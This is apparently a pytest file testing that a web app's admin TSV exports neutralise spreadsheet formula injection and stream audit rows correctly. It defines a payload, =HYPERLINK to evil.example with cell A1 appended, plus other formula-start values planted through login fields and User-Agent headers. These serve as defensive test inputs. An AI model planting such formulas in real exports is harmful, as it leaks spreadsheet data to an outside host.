"""The TSV exports: spreadsheet formulas planted by anyone come out as text, and the audit
export streams every row over a real server, where the request's session is gone by then."""

from __future__ import annotations

import csv
import io
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date, timedelta

from sqlalchemy import insert
from werkzeug.serving import make_server

from app.admin.export import tsv_cell
from app.extensions import db, utcnow
from app.models import AuditEvent

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
PLANTED = (HYPERLINK, "+1", "@SUM(A1:A9)", "-2+3", "\t=1+1", "\r=1+1")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter="\t"))


def test_each_dangerous_start_is_quoted_and_numbers_stay_numbers():
    for value in PLANTED:
        cell = tsv_cell(value)
        assert cell.startswith("'") and "\t" not in cell and "\r" not in cell, value
    assert tsv_cell(" =1+1").startswith("'")  # a formula behind a space
    assert tsv_cell("a\tb\nc\rd") == "a b c d"  # never a new column or row
    assert tsv_cell(-3) == "-3" and tsv_cell(2.5) == "2.5" and tsv_cell(0) == "0"
    assert tsv_cell("-3") == "'-3"  # text that looks like a number is still text
    assert tsv_cell(None) == "" and tsv_cell("plain text") == "plain text"
    assert tsv_cell(date(2026, 3, 1)) == "2026-03-01"


def test_formulas_planted_by_failed_sign_ins_come_out_as_text(app, client, admin, login_as):
    for value in PLANTED:
        agent = value.replace("\r", "")  # HTTP headers cannot carry a carriage return
        client.submit(
            "/login",
            {"login": value, "password": "not the password"},
            headers={"User-Agent": agent},
        )
    login_as(admin)
    rows = _rows(client.get("/admin/audit.tsv?action=login.failed").get_data(as_text=True))
    assert len(rows) == 1 + len(PLANTED)
    assert all(len(row) == 7 for row in rows)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    targets, agents = {row[3] for row in rows[1:]}, {row[5] for row in rows[1:]}
    assert "'" + HYPERLINK.casefold() in targets and "'+1" in targets and "'@sum(a1:a9)" in targets
    assert {"'" + HYPERLINK, "'+1", "'@SUM(A1:A9)", "'-2+3"} <= agents
    assert {"' =1+1"} <= agents  # the tab became a space, behind the quote


def test_stats_numbers_are_numbers(admin_client):
    rows = _rows(admin_client.get("/admin/stats.tsv").get_data(as_text=True))
    assert rows[0][0] == "Date" and len(rows) > 1
    assert all(cell.lstrip("-").isdigit() for row in rows[1:] for cell in row[1:])


# --- the audit export over a real server ---------------------------------------------------


@contextmanager
def served(app) -> Iterator[str]:
    """The app behind werkzeug's server in a thread: each request gets its own contexts, torn
    down before the streamed body is read, as under gunicorn."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join(5)


def _download(base: str, path: str, cookie: str) -> str:
    request = urllib.request.Request(base + path, headers={"Cookie": cookie})
    with urllib.request.urlopen(request, timeout=60) as response:
        assert response.status == 200
        return response.read().decode("utf-8")


def test_the_audit_export_streams_every_row_with_filters(app, client, admin, make_user, login_as):
    wil = make_user(username="wil")
    now = utcnow()
    start = date(2026, 1, 1)
    events = [
        {
            "day": start + timedelta(days=n % 5),
            "created_at": now,
            "action": ("login.ok", "login.failed")[n % 2],
            "actor_id": (admin.id, wil.id)[n % 3 == 0],
            "actor_name": ("root", "wil")[n % 3 == 0],
            "target": f"t{n}",
            "detail": f"event {n}",
        }
        for n in range(2500)  # more than two batches
    ]
    db.session.execute(insert(AuditEvent), events)
    db.session.commit()
    login_as(admin)
    cookie = f"{app.config['SESSION_COOKIE_NAME']}={client.get_cookie('session').value}"

    with served(app) as base:
        everything = _rows(_download(base, "/admin/audit.tsv", cookie))
        filtered = _rows(
            _download(
                base,
                "/admin/audit.tsv?user=wil&action=login.failed&start=2026-01-02&end=2026-01-04",
                cookie,
            )
        )

    targets = [row[3] for row in everything[1:] if row[3].startswith("t")]
    assert targets == [f"t{n}" for n in reversed(range(2500))]  # all of them, newest first
    expected = [
        f"t{n}"
        for n in reversed(range(2500))
        if n % 2
        and n % 3 == 0
        and start + timedelta(days=1) <= events[n]["day"] <= start + timedelta(days=3)
    ]
    assert len(expected) > 100
    assert [row[3] for row in filtered[1:]] == expected
    assert filtered[0][0] == "Time (UTC)" and all(len(row) == 7 for row in filtered)
